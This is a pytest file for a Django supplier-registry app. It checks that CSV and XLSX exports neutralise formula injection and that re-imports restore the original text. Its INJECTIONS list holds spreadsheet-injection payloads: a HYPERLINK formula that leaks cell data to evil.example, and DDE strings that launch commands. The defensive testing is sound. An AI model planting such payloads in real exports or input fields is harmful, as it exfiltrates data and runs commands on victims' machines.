"""Formula-like text typed by suppliers (company names, smelter names, contact fields) is
neutralised in every CSV and XLSX the app exports, and comes back unchanged when an
exported registry is imported again. DOCX/PDF text is never evaluated, so it is kept."""

from __future__ import annotations

import csv
import io

import openpyxl
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from django.urls import reverse

from config.cells import cell_restore, cell_safe
from tests.cmrt.bulk.helpers import cmrt_for, zip_of
from tests.factories import make_contact, make_supplier

INJECTIONS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("text", INJECTIONS)
def test_formula_like_text_gets_an_apostrophe_and_comes_back(text: str) -> None:
    assert cell_safe(text) == "'" + text
    assert cell_restore(cell_safe(text)) == text


@pytest.mark.parametrize("value", ["Acme", "", 12, -3, 1.5, None, "a=b", "'quoted"])
def test_other_values_pass_unchanged(value: object) -> None:
    assert cell_safe(value) == value


def _xlsx_cells(content: bytes) -> list[tuple[object, str]]:
    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    return [(cell.value, cell.data_type) for row in sheet.iter_rows() for cell in row]


@pytest.mark.django_db
def test_registry_exports_neutralise_supplier_and_contact_fields(
    compliance_client: Client,
) -> None:
    supplier = make_supplier(INJECTIONS[0])
    make_contact(supplier, name=INJECTIONS[1])
    csv_text = compliance_client.get(
        reverse("suppliers:export") + "?kind=suppliers&format=csv"
    ).content.decode("utf-8-sig")
    names = [row[1] for row in csv.reader(io.StringIO(csv_text))]
    assert "'" + INJECTIONS[0] in names
    xlsx = compliance_client.get(reverse("suppliers:export") + "?kind=contacts&format=xlsx")
    cells = _xlsx_cells(xlsx.content)
    assert ("'" + INJECTIONS[1], "s") in cells
    assert not [value for value, kind in cells if kind == "f"]  # no formula anywhere


@pytest.mark.django_db
def test_bulk_export_neutralises_the_declared_company(
    compliance_client: Client, django_capture_on_commit_callbacks
) -> None:
    # "=" would make openpyxl write a formula (the reader never evaluates those); "+" and
    # "@" are typed as text and still run when a spreadsheet opens the export.
    archive = zip_of({"evil.xlsx": cmrt_for(INJECTIONS[1])})
    with django_capture_on_commit_callbacks(execute=True):
        compliance_client.post(
            reverse("cmrt:bulk_new"), {"files": [SimpleUploadedFile("batch.zip", archive)]}
        )
    from cmrt.models import BulkImport

    job = BulkImport.objects.get()
    url = reverse("cmrt:bulk_export", args=[job.pk])
    rows = list(
        csv.reader(io.StringIO(compliance_client.get(url + "?format=csv").content.decode()))
    )
    assert rows[1][2] == "'" + INJECTIONS[1]
    cells = _xlsx_cells(compliance_client.get(url + "?format=xlsx").content)
    assert ("'" + INJECTIONS[1], "s") in cells
    assert not [value for value, kind in cells if kind == "f"]
